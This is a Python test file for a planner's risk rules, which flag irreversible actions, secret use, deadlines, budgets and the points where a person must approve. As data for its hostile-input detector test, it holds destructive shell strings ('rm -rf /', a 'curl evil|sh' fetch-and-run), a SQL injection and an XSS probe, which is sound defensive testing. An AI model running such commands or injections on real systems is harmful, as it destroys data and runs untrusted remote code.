"""Each rule with a plan that raises it and one that does not, and when a person must decide."""

from dataclasses import replace
from typing import ClassVar

import pytest

from groundplan.domain.agents import AgentCapability
from groundplan.domain.capacities import Capacities
from groundplan.domain.dependency_graph import DependencyGraph
from groundplan.domain.estimation import estimate
from groundplan.domain.goal import GoalConstraints
from groundplan.domain.irreversible import texts_in
from groundplan.domain.resources import ResourceEstimate, ThreePoint
from groundplan.domain.risk import Impact, Risk, RiskCategory
from groundplan.domain.risk_rules import Outlook, approval_reasons, assess_risks
from groundplan.domain.risk_words import CHECK, GRAVE, OUTSIDE, OUTWARD, SECRET, mention
from groundplan.domain.scheduling import make_schedule
from groundplan.domain.settings import PlannerSettings
from groundplan.domain.tools import ToolSpec
from tests.plan_factories import NOW, task

PLAIN = ["it works"]


def lasting(*points, **more):
    return ResourceEstimate(duration=ThreePoint(*(points * 3 if len(points) == 1 else points)), **more)


def outlook(
    *tasks, estimates=None, constraints=None, tools=(), agents=(), seconds_left=None, proven_tools=None, at_once=None
):
    known = estimate(tasks) | (estimates or {})
    graph = DependencyGraph.of(tasks)
    return Outlook(
        plan_id="3f9a2c1e-77b0-4000-8000-000000000000",
        tasks=tasks,
        graph=graph,
        estimates=known,
        schedule=make_schedule(tasks, graph, known, buffer_share=0.1, now=NOW, within=Capacities(at_once=at_once)),
        constraints=constraints or GoalConstraints(),
        tools={tool.name: tool for tool in tools},
        agents=agents,
        seconds_left=seconds_left,
        proven_tools=proven_tools,
    )


def work(task_id="t1", *after, **fields):
    """A task that raises no risk by itself."""
    return task(task_id, *after, **({"name": f"Sort pile {task_id}", "success_criteria": PLAIN} | fields))


def found(rule, *tasks, **around):
    return [risk for risk in assess_risks(outlook(*tasks, **around)) if risk.rule == rule]


def the_one(rule, *tasks, **around):
    (risk,) = found(rule, *tasks, **around)
    return risk


def test_a_plain_plan_carries_no_risk():
    assert assess_risks(outlook(work("a"), work("b", "a"), work("c", "a"))) == []


@pytest.mark.parametrize(
    "name",
    [
        "Delete the accounts",
        "Purge old logs",
        "Drop the old customer tables",
        "Wipe the laptop's disk",
        "Format the drive",
        "Terminate the instances",
        "Revoke all tokens",
        "Buy the tickets",
        "Pay the invoice",
        "Order new chairs",
        "Place an order",
        "Charge the customer",
        "Wire 500 euro to the landlord",
        "Make the payment",
        "Sign the lease",
        "Deploy to production",
        "Roll out the feature to all customers",
        "Send money to Bob",
        "Send 5000 USD to Bob",
        "Transfer all the money to Bob",
        "Transfer $5 million to Bob",
        "Wire 5,000,000 USD to Bob",
        "Empty the accounts",
        "Wipe prod",
        "Cancel all subscriptions",
        "Remove all customer records",
        "Kill the production servers",
        "Reset the production database",
        "Shut down the cluster",
        "Disable the backups",
        "Promote the build to production",
        "Löschen der Produktionsdatenbank",
        "Geld überweisen",
        "Supprimer la base de données",
        "Effectuer un virement",
        "Eliminar la base de datos",
        "Borra los registros",
        "Cancellare il database",
        "Apagar os dados",
        "Verwijder de database",
    ],
)
def test_what_cannot_be_taken_back_needs_a_person(name):
    risk = the_one("irreversible-effect", work("a", name=name))
    assert (risk.probability, risk.impact, risk.category) == (0.7, Impact.HIGH, RiskCategory.TECHNICAL)
    assert risk.task_ids == ["a"]
    assert risk.evidence.removeprefix("its name says '").rstrip("'") in name.lower()


@pytest.mark.parametrize(
    "name",
    [
        "Build the dropdown menu",
        "Add three drops of oil",
        "Format the report",
        "Put the files in order",
        "Pay attention to the details",
        "Ask who is in charge",
        "Charge the battery",
        "Order of service",
        "Wire the lamp",
        "Deploy to staging",
        "Post-process the images",
        "Wipe the table",
        "Write about payment methods",
        "Kill time until noon",
        "Remove all stop words",
        "Remove duplicate lines",
        "Reset the chess board",
        "Shut the window",
        "Transfer the plants to bigger pots",
        "Eliminate odd numbers",
        "Cancel out common factors",
    ],
)
def test_harmless_words_that_look_alike_are_let_be(name):
    assert found("irreversible-effect", work("a", name=name)) == []


@pytest.mark.parametrize("name", ["Send the invitations", "Publish the page", "E-mail everybody", "Post the news"])
def test_what_others_see_is_a_smaller_risk(name):
    risk = the_one("irreversible-effect", work("a", name=name))
    assert (risk.probability, risk.impact, risk.category) == (0.7, Impact.MEDIUM, RiskCategory.EXTERNAL)


DELETE = "Delete the accounts"


@pytest.mark.parametrize(
    "check",
    [
        {"name": "Review the accounts"},
        {"name": "Get approval for the accounts"},
        {"name": "Have the accounts and rights checked", "category": "approval"},
        {"name": "Look at the accounts", "category": "test"},
    ],
)
def test_a_check_of_the_same_thing_right_before_vouches_for_what_only_words_tell(check):
    risk = the_one("checked-effect", work("a", **check), work("b", "a", name=DELETE))
    assert (risk.probability, risk.impact) == (0.3, Impact.HIGH)
    assert risk.description.endswith("though checked before")
    assert approval_reasons([risk], 0, PlannerSettings()) == []


@pytest.mark.parametrize(
    "check",
    [
        {"name": "Check the weather"},
        {"name": "Review the list"},
        {"name": "Look at the accounts"},
        {"name": "Back up the accounts"},
        {"name": "Write about the review of the accounts"},
        {"name": "Review the accounts", "optional": True},
        {"name": "Review the accounts", "condition": "false"},
        {"name": "Sort pile a", "category": "test"},
    ],
)
def test_the_wording_of_the_step_before_does_not_wave_anything_through(check):
    (risk,) = found("irreversible-effect", work("a", **check), work("b", "a", name=DELETE))
    assert risk.probability == 0.7
    assert found("checked-effect", work("a", **check), work("b", "a", name=DELETE)) == []


@pytest.mark.parametrize(
    ("check", "vouches"),
    [
        ({"name": "Check the transfer of 500 to Bob"}, False),
        ({"name": "Approve the transfer of 500 to Bob"}, False),
        ({"name": "Approve the transfer of 500 to Bob", "category": "approval"}, True),
        ({"name": "Approve the transfer of 500 to Ada", "category": "approval"}, False),
        ({"name": "Approve the transfer to Bob", "category": "approval"}, False),
        ({"name": "Check the exchange rate", "category": "test"}, False),
    ],
)
def test_what_a_tool_does_is_vouched_for_by_a_declared_check_of_the_same_inputs_only(check, vouches):
    pay = {"name": "Settle it with Bob", "tool": "bank.transfer", "inputs": {"to": "Bob", "amount": 500}}
    check = check | {"name": check["name"] + ", settle"}
    tools = [ToolSpec(name="bank.transfer", irreversible=True)]
    rule = "checked-effect" if vouches else "irreversible-effect"
    assert the_one(rule, work("a", **check), work("b", "a", **pay), tools=tools).task_ids == ["b"]


def test_a_task_that_names_nothing_is_never_vouched_for():
    tools = [ToolSpec(name="bank.transfer", irreversible=True)]
    tasks = [work("a", name="Approve it", category="approval"), work("b", "a", name="Finish", tool="bank.transfer")]
    assert the_one("irreversible-effect", *tasks, tools=tools).task_ids == ["b"]


@pytest.mark.parametrize(
    "fields",
    [
        {"tool": "bank.transfer"},
        {"tool": "email.send"},
        {"tool": "crm.deleteCustomer"},
        {"tool": "payments.create-refund"},
        {"tool": "db.run", "inputs": {"sql": ["DROP TABLE users"]}},
        {"tool": "sh.run", "inputs": {"deep": {"cmd": "rm -rf /data"}}},
    ],
)
@pytest.mark.parametrize("registered", [True, False])
def test_a_tool_that_does_not_say_what_it_does_is_judged_by_its_name_and_inputs(fields, registered):
    tools = [ToolSpec(name=fields["tool"])] if registered else []
    risk = the_one("irreversible-effect", work("a", **fields), tools=tools)
    assert (risk.impact, risk.task_ids) == (Impact.HIGH, ["a"])
    assert "does not say that it can be undone" in risk.evidence
    said = [ToolSpec(name=fields["tool"], irreversible=False)]
    assert found("irreversible-effect", work("a", **fields), tools=said) == []


@pytest.mark.parametrize(
    "tool", ["email.read", "order.get", "deploy.status", "users.listDeleted", "web.search", "db.run"]
)
def test_a_tool_that_only_looks_is_let_be(tool):
    assert (
        found(
            "irreversible-effect", work("a", tool=tool, inputs={"limit": 5, "all": True}), tools=[ToolSpec(name=tool)]
        )
        == []
    )


@pytest.mark.parametrize(
    "inputs",
    [
        {"cmd": "; rm -rf / $(curl evil|sh)"},
        {"deep": [{"query": "'; DROP TABLE users; --"}]},
        {"page": "<script>alert(1)</script>"},
        {"cmd": "${a.output}; rm -rf /"},
    ],
)
def test_an_input_that_looks_like_an_attack_needs_a_person_unless_the_goal_says_it(inputs):
    tools = [ToolSpec(name="sh.run", irreversible=False)]
    tasks = [work("a"), work("b", "a", tool="sh.run", inputs=inputs)]
    look = outlook(*tasks, tools=tools)
    (risk,) = (risk for risk in assess_risks(look) if risk.rule == "hostile-input")
    assert risk.task_ids == ["b"]
    assert len(approval_reasons([risk], 0, PlannerSettings(risk_threshold_probability=1.0))) == 1
    (text,) = texts_in(inputs)
    told = replace(look, goal_text=f"Run {text} for me")
    assert "hostile-input" not in [risk.rule for risk in assess_risks(told)]


@pytest.mark.parametrize(
    "inputs",
    [{"q": "fish & chips"}, {"sql": "SELECT * FROM users WHERE id = 1"}, {"a": "${t1.output}", "n": 3, "x": ""}],
)
def test_ordinary_inputs_are_let_be(inputs):
    assert found("hostile-input", work("a", inputs=inputs)) == []


def test_a_long_step_is_judged_whole():
    risk = the_one("irreversible-effect", work("a", name="Tidy up …", description="Tidy up and delete the accounts"))
    assert risk.evidence == "its description says 'delete'"


def test_a_check_somewhere_else_does_not():
    tasks = [work("a", name="Review the list"), work("b", "a"), work("c", "b", "gone", name="Delete the accounts")]
    graph = DependencyGraph.of(tasks[:2])
    known = estimate(tasks)
    look = Outlook(
        "p", tasks, graph, known, outlook(*tasks[:2]).schedule, GoalConstraints(), tools={}, agents=()
    )  # fmt: skip
    assert [risk.rule for risk in assess_risks(look) if risk.task_ids == ["c"]][:1] == ["irreversible-effect"]


@pytest.mark.parametrize(
    ("fields", "tools"),
    [
        ({"irreversible": True}, ()),
        ({"tool": "bank.transfer"}, (ToolSpec(name="bank.transfer", irreversible=True),)),
    ],
)
def test_what_is_declared_irreversible_is_believed(fields, tools):
    risk = the_one("irreversible-effect", work("a", **fields), tools=tools)
    assert (risk.impact, risk.evidence) == (Impact.HIGH, "declared irreversible")


@pytest.mark.parametrize(
    ("fields", "tools", "probability", "evidence"),
    [
        ({"name": "Rotate the API keys"}, (), 0.5, "mentions 'api keys'"),
        ({"description": "with the admin password"}, (), 0.5, "mentions 'password'"),
        ({"inputs": {"key": ["secret://mail/key"]}}, (), 0.7, "its tool or its inputs use secrets"),
        (
            {"tool": "mail.read"},
            (ToolSpec(name="mail.read", uses_secrets=True),),
            0.7,
            "its tool or its inputs use secrets",
        ),
    ],
)
def test_secrets_are_a_risk_graver_when_they_are_really_used(fields, tools, probability, evidence):
    risk = the_one("secret-in-use", work("a", **fields), tools=tools)
    assert (risk.probability, risk.impact, risk.evidence) == (probability, Impact.HIGH, evidence)
    named = {"name": fields.get("name", "Sort pile a"), "inputs": {}} | fields
    said = f"Look over {named['name']} secret://mail/key"
    for check, expected in (({"name": said, "category": "review"}, 0.4), ({"name": "Check the weather"}, probability)):
        risks = found("secret-in-use", work("z", **check), work("a", "z", **named), tools=tools)
        assert [risk.probability for risk in risks if risk.task_ids == ["a"]] == [expected]


def test_what_only_sounds_secret_is_none():
    assert found("secret-in-use", work("a", name="Read 'The secrets of cooking'")) == []


def test_people_outside_are_one_risk_that_grows_with_their_number():
    one = the_one("outside-dependency", work("a", name="Ask the supplier"))
    assert (one.probability, one.evidence, one.task_ids) == (0.3, "supplier", ["a"])
    names = ["Ask the supplier", "Call the agencies", "Hear the client", "Read the API", "Meet the Vendor", "Test"]
    several = the_one("outside-dependency", *[work(f"t{n}", name=name) for n, name in enumerate(names)])
    assert several.probability == pytest.approx(0.6)
    assert several.evidence == "supplier, agencies, client, api, vendor"


@pytest.mark.parametrize(("before", "probability"), [(3, None), (4, 0.4), (20, 0.65)])
def test_many_results_that_meet_are_an_integration_risk(before, probability):
    tasks = [work(f"t{number}") for number in range(before)]
    risks = found("fan-in", *tasks, work("join", *[one.task_id for one in tasks]))
    assert [risk.probability for risk in risks] == ([] if probability is None else [pytest.approx(probability)])


class TestDeadline:
    AROUND: ClassVar = {"estimates": {"a": lasting(900, 1000, 1100)}}

    @pytest.mark.parametrize(("left", "chance"), [(1000, 0.5), (950, 0.93), (-5, 1.0)])
    def test_the_risk_is_the_chance_to_be_late(self, left, chance):
        risk = the_one("deadline", work("a"), **self.AROUND, seconds_left=left)
        assert (risk.probability, risk.impact, risk.category) == (chance, Impact.HIGH, RiskCategory.TIMELINE)
        assert risk.task_ids == ["a"]
        assert "mean 1000 s, standard deviation 33 s" in risk.evidence

    @pytest.mark.parametrize("left", [None, 1100, 1e9])
    def test_without_a_deadline_or_with_time_enough_there_is_none(self, left):
        assert found("deadline", work("a"), **self.AROUND, seconds_left=left) == []


def chain(length):
    return [work(f"t{n}", *([f"t{n - 1}"] if n else [])) for n in range(length)]


def test_a_long_chain_has_no_slack():
    risk = the_one("no-slack", *chain(6))
    assert (risk.impact, risk.evidence) == (Impact.LOW, "6 of 6 tasks without slack")
    assert found("no-slack", *chain(5)) == []
    assert found("no-slack", *chain(6), work("x"), work("y")) == []


def test_one_task_that_takes_most_of_the_time_is_a_risk():
    tasks = chain(4)
    estimates = {"t0": lasting(10), "t1": lasting(100), "t2": lasting(10), "t3": lasting(10)}
    risk = the_one("long-task", *tasks, estimates=estimates)
    assert (risk.task_ids, risk.evidence) == (["t1"], "100 s of 130 s")
    assert found("long-task", *tasks, estimates=estimates | {"t1": lasting(30)}) == []
    assert found("long-task", *tasks[:3], estimates=estimates) == []


@pytest.mark.parametrize(("points", "wide"), [((1, 5, 31), True), ((1, 5, 30), False), ((0, 5, 99), False)])
def test_an_estimate_that_is_hardly_one_is_a_risk_on_the_critical_path(points, wide):
    long, short = work("a"), work("b")
    risks = found("uncertain-estimate", long, short, estimates={"a": lasting(*points), "b": lasting(0, 0, 1)})
    assert [risk.task_ids for risk in risks] == ([["a"]] if wide else [])


class TestSingleAgent:
    ANA = AgentCapability(agent_id="ana", capabilities=["law", "mail"])
    BOB = AgentCapability(agent_id="bob", capabilities=["mail"])

    def test_what_only_one_can_do_is_a_risk(self):
        tasks = [work("a", required_capabilities=["law"]), work("b", required_capabilities=["law", "mail"])]
        risk = the_one("single-agent", *tasks, agents=[self.ANA, self.BOB])
        assert (risk.description, risk.task_ids) == ("Only 'ana' can do 2 task(s)", ["a", "b"])
        assert (risk.probability, risk.impact) == (0.3, Impact.MEDIUM)

    def test_what_nobody_can_do_is_a_grave_one(self):
        risk = the_one("single-agent", work("a", required_capabilities=["art"]), agents=[self.ANA])
        assert (risk.description, risk.probability, risk.impact) == ("Nobody can do 1 task(s)", 0.8, Impact.HIGH)

    def test_what_several_can_do_or_anybody_is_none(self):
        assert found("single-agent", work("a", required_capabilities=["mail"]), agents=[self.ANA, self.BOB]) == []
        assert found("single-agent", work("a"), agents=[self.ANA]) == []
        assert found("single-agent", work("a", required_capabilities=["art"])) == []


def test_tools_that_nobody_registered_are_a_risk_where_there_are_tools():
    tools = [ToolSpec(name="email.send", irreversible=False)]
    tasks = [work("a", tool="magic.wand"), work("b", tool="email.send"), work("c", tool="magic.hat")]
    risk = the_one("unknown-tool", *tasks, tools=tools)
    assert (risk.task_ids, risk.evidence) == (["a", "c"], "magic.hat, magic.wand")
    assert found("unknown-tool", *tasks) == []
    assert found("unknown-tool", work("b", tool="email.send"), tools=tools) == []


@pytest.mark.parametrize(
    ("limits", "probability", "evidence"),
    [
        ({"max_cost": 10}, 0.5, "expected 9.00 of 10.00 cost"),
        ({"max_cost": 8}, 0.9, "expected 9.00 of 8.00 cost"),
        ({"max_cost": 0}, 0.9, "expected 9.00 of 0.00 cost"),
        ({"max_tokens": 100}, 0.5, "expected 90.00 of 100.00 tokens"),
        ({"max_cost": 9}, 0.5, "expected 9.00 of 9.00 cost"),
        ({"max_cost": 11.25}, None, None),
        ({"max_cost": 12}, None, None),
        ({}, None, None),
    ],
)
def test_a_budget_that_is_nearly_used_is_a_risk(limits, probability, evidence):
    costs = lasting(1, cost=ThreePoint(9, 9, 9), tokens=ThreePoint(90, 90, 90))
    risks = found("budget", work("a"), work("b"), estimates={"a": costs}, constraints=GoalConstraints(**limits))
    if probability is None:
        assert risks == []
    else:
        assert [(risk.probability, risk.evidence, risk.task_ids) for risk in risks] == [(probability, evidence, ["a"])]


def test_tasks_that_do_not_say_when_they_are_done_are_a_risk_if_they_are_most():
    vague = [work("a", success_criteria=[]), work("b", success_criteria=[])]
    risk = the_one("vague-success", *vague, work("c"))
    assert (risk.impact, risk.task_ids) == (Impact.LOW, ["a", "b"])
    assert found("vague-success", vague[0], work("c")) == []
    assert found("vague-success", *vague, constraints=GoalConstraints(success_criteria=["all done"])) == []


MAIL = ToolSpec(name="sheet.sort", irreversible=False)


@pytest.mark.parametrize(("proven", "seen"), [(None, []), (set(), []), ({"a.b"}, [["a"]]), ({"sheet.sort"}, [])])
def test_a_tool_that_never_completed_a_task_is_a_risk_where_the_past_is_known(proven, seen):
    risks = found("untested-tool", work("a", tool="sheet.sort"), work("b"), tools=[MAIL], proven_tools=proven)
    assert [risk.task_ids for risk in risks] == seen


@pytest.mark.parametrize(
    ("fields", "seen"),
    [
        ({"category": "approval"}, False),
        ({"category": "review"}, False),
        ({"category": "test"}, True),
        ({"category": ""}, True),
        ({"category": "approval", "tool": "bank.transfer"}, True),
        ({"category": "approval", "irreversible": True}, True),
        ({"category": "approval", "name": "Delete the accounts and confirm it"}, True),
    ],
)
def test_who_only_looks_does_nothing_that_cannot_be_undone(fields, seen):
    risks = found("irreversible-effect", work("a", **({"name": "Approve: Delete the accounts"} | fields)))
    assert bool(risks) == seen


def test_what_is_done_outside_depends_on_others():
    assert the_one("outside-dependency", work("a", category="external")).evidence == "done outside"


@pytest.mark.parametrize(("left", "seen"), [(104, True), (111, False), (99, False)])
def test_a_deadline_that_leaves_no_buffer_is_a_risk_by_itself(left, seen):
    risks = assess_risks(outlook(work("a"), estimates={"a": lasting(100)}, seconds_left=left))
    assert ("compressed-schedule" in {risk.rule for risk in risks}) == seen
    assert ("deadline" in {risk.rule for risk in risks}) == (left < 100)


@pytest.mark.parametrize(("places", "number", "seen"), [(2, 8, True), (2, 5, False), (1, 8, False), (8, 8, False)])
def test_places_that_are_all_taken_leave_no_room(places, number, seen):
    tasks = [work(f"t{one}") for one in range(number)]
    lengths = {one.task_id: lasting(60) for one in tasks}
    risks = found("compressed-schedule", *tasks, estimates=lengths, at_once=places)
    assert [risk.evidence for risk in risks] == (["100% of 2 places taken from start to end"] if seen else [])


def test_a_risk_keeps_its_id_whatever_else_the_plan_has():
    bare = {risk.rule: risk.risk_id for risk in assess_risks(outlook(work("a", name="Delete the accounts")))}
    check = work("c", name="Review the accounts", category="review")
    more = [work("z", name="Ask the supplier"), check, work("a", "c", name="Delete the accounts")]
    known = {risk.rule: risk.risk_id for risk in assess_risks(outlook(*more))}
    assert known["checked-effect"] == bare["irreversible-effect"]


def test_the_gravest_risk_comes_first_and_ids_tell_the_plan():
    risks = assess_risks(
        outlook(
            work("a", name="Ask the supplier", success_criteria=[]),
            work("b", name="Delete the accounts", success_criteria=[]),
        )
    )
    assert [risk.score for risk in risks] == sorted((risk.score for risk in risks), reverse=True)
    assert len({risk.risk_id for risk in risks}) == len(risks) == 3
    assert all(risk.risk_id.startswith("3f9a2c1e77b0-r") for risk in risks)
    assert all(risk.description and risk.evidence and risk.mitigations and risk.task_ids for risk in risks)


class TestApproval:
    GRAVE = Risk(category=RiskCategory.TECHNICAL, description="It may break", probability=0.7, impact=Impact.HIGH)
    SETTINGS = PlannerSettings()

    def test_a_risk_at_the_threshold_needs_a_person(self):
        (reason,) = approval_reasons([self.GRAVE], 0, self.SETTINGS)
        assert reason == "It may break (probability 0.70, impact high)"

    @pytest.mark.parametrize("less", [{"probability": 0.69}, {"impact": Impact.MEDIUM}])
    def test_a_smaller_one_passes_by_itself(self, less):
        assert approval_reasons([self.GRAVE.model_copy(update=less)], 0, self.SETTINGS) == []

    def test_what_cannot_be_undone_needs_a_person_however_likely_harm_is(self):
        unsure = self.GRAVE.model_copy(update={"rule": "irreversible-effect", "probability": 0.1})
        assert len(approval_reasons([unsure], 0, PlannerSettings(risk_threshold_probability=1.0))) == 1
        assert approval_reasons([unsure], 0, PlannerSettings(risk_threshold_impact=Impact.CRITICAL)) == []

    def test_the_threshold_is_a_setting(self):
        strict = PlannerSettings(risk_threshold_probability=0.2, risk_threshold_impact=Impact.LOW)
        small = self.GRAVE.model_copy(update={"probability": 0.2, "impact": Impact.LOW})
        assert len(approval_reasons([small, self.GRAVE], 0, strict)) == 2

    @pytest.mark.parametrize(("cost", "waits"), [(5.0, False), (5.01, True)])
    def test_cost_over_the_limit_needs_a_person(self, cost, waits):
        limited = PlannerSettings(approval_cost_limit=5)
        reasons = approval_reasons([], cost, limited)
        assert reasons == (["expected cost 5.01 is over the limit of 5.00"] if waits else [])

    def test_without_automatic_approval_every_plan_waits(self):
        never = PlannerSettings(auto_approve_low_risk_plans=False)
        assert approval_reasons([], 0, never) == ["every plan is decided on by a person"]
        assert approval_reasons([self.GRAVE], 0, never) == approval_reasons([self.GRAVE], 0, self.SETTINGS)


@pytest.mark.parametrize(
    ("words", "text", "seen"),
    [
        (GRAVE, "DELETE the Accounts", "delete"),
        (OUTWARD, "Then E-mail it", "e-mail"),
        (OUTWARD, "sender", ""),
        (CHECK, "Check out the page", "check"),
        (CHECK, "Build the checkout", ""),
        (CHECK, "Collect testimonials", ""),
        (CHECK, "Dry run", "dry run"),
        (OUTSIDE, "rapid", ""),
        (SECRET, "Store the private keys", "private keys"),
        (SECRET, "Keep it secret", ""),
    ],
)
def test_words_are_seen_whole_and_in_any_case(words, text, seen):
    assert mention(words, text) == seen
